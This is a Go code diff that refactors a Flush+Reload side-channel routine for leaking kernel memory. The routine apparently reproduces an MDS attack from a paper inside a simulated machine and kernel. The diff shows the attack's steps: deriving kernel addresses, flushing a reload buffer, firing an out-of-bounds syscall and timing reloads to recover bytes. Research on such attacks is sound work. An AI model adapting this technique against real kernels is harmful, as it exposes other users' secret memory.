@@ -22,9 +22,6 @@ type MDSLeakConfig struct {
 	// Bytes is how much kernel memory to leak (the paper leaks 4096
 	// bytes of randomized data).
 	Bytes int
-	// Threshold for the Flush+Reload decision; 0 picks half the memory
-	// latency.
-	Threshold int
 }
 
 // MDSLeakResult reports a kernel-memory leak run.
@@ -77,9 +74,6 @@ func leakKernelMemory(k *kernel.Kernel, startVA uint64, cfg MDSLeakConfig, injec
 	if cfg.Bytes == 0 {
 		cfg.Bytes = 4096
 	}
-	if cfg.Threshold == 0 {
-		cfg.Threshold = fetchLatencyThreshold(m.Prof)
-	}
 
 	// Attacker-known addresses, all derived from the recovered image base
 	// (kernel symbol offsets are public knowledge).
@@ -87,6 +81,7 @@ func leakKernelMemory(k *kernel.Kernel, startVA uint64, cfg MDSLeakConfig, injec
 	disclosure := cfg.ImageBase + kernel.MDSDisclosureOff
 	arrayBase := cfg.ImageBase + kernel.ArrayOff
 	reloadKVA := cfg.PhysmapBase + cfg.ReloadPhys
+	rb := reloadBuffer{m: m, va: cfg.HugeVA}
 
 	res := &MDSLeakResult{}
 	start := m.Cycle
@@ -109,31 +104,16 @@ func leakKernelMemory(k *kernel.Kernel, startVA uint64, cfg MDSLeakConfig, injec
 				return 0, false, err
 			}
 		}
-		// 3. Flush the reload buffer (256 cache-line-strided entries,
-		// matching the gadget's bits-[13:6] encoding).
-		for v := 0; v < 256; v++ {
-			m.FlushVA(cfg.HugeVA + uint64(v)*64)
-		}
+		// 3. Flush the reload buffer.
+		rb.flush()
 		// 4. Fire: out-of-bounds index reaching the target byte.
 		idx := kva - arrayBase
 		if err := a.Syscall(kernel.SysMDSRead, idx, reloadKVA); err != nil {
 			return 0, false, err
 		}
 		// 5. Reload scan.
-		bestV, bestLat := -1, 1<<30
-		for v := 0; v < 256; v++ {
-			lat, ok := m.TimedLoad(cfg.HugeVA + uint64(v)*64)
-			if !ok {
-				continue
-			}
-			if lat < bestLat {
-				bestV, bestLat = v, lat
-			}
-		}
-		if bestV < 0 || bestLat >= cfg.Threshold {
-			return 0, false, nil // no signal this round
-		}
-		return byte(bestV), true, nil
+		got, hit := rb.scan()
+		return got, hit, nil
 	}
 
 	res.Leaked = make([]byte, cfg.Bytes)
